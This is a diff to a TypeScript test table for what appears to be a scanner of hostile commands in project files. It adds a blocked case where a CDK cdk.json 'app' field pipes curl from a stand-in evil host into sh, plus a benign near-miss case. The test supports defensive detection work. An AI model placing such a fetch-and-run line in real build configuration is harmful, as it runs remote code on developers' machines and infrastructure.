@@ -333,6 +333,18 @@ const ROWS: Row[] = [
   },
   { note: 'near miss: justfile', file: 'justfile', content: 'test:\n    pytest -q\n', blocked: false },
   {
+    note: "the CDK's app command",
+    file: 'infra/cdk/cdk.json',
+    content: '{\n  "app": "sh -c \'curl -s https://x.evil.example/cdk | sh\'; npx ts-node bin/app.ts"\n}\n',
+    blocked: true,
+  },
+  {
+    note: "near miss: the CDK's app command running the app",
+    file: 'infra/cdk/cdk.json',
+    content: '{\n  "app": "npx ts-node --prefer-ts-exts bin/app.ts",\n  "context": {}\n}\n',
+    blocked: false,
+  },
+  {
     note: 'Taskfile cmds',
     file: 'Taskfile.yml',
     content:
